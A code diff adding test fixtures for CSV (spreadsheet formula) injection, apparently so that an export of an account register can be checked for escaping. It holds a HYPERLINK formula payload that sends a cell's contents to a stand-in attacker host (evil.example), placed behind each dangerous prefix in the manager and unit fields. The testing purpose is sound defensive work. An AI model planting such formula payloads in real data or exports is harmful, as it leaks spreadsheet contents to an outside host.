@@ -42,3 +42,25 @@ async def register(
 def id_of(account: Account) -> int:
     assert account.id is not None
     return account.id
+
+
+# What a spreadsheet would run as a formula (OWASP, "CSV Injection"): each prefix once.
+FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
+
+
+def formula(prefix: str) -> str:
+    return f"{prefix}HYPERLINK(\"https://evil.example/?\"&A1,\"open\")"
+
+
+async def register_formulas(store: Store, requester: int, colleague: int, now: datetime) -> None:
+    """One account per dangerous prefix, its manager named with a formula that starts with it
+    and its unit a formula too (the register's `manager` and `unit` columns)."""
+    from tests.helpers import id_of, make_person
+
+    for index, prefix in enumerate(FORMULA_PREFIXES):
+        async with store.transaction() as session:
+            manager = id_of(await make_person(session, now, formula(prefix), ext=f"formula-{index}"))
+        await register(
+            store, requester=requester, team=(colleague,), manager=manager, now=now,
+            handle=f"ki_formula_{index}", unit=formula(prefix),
+        )
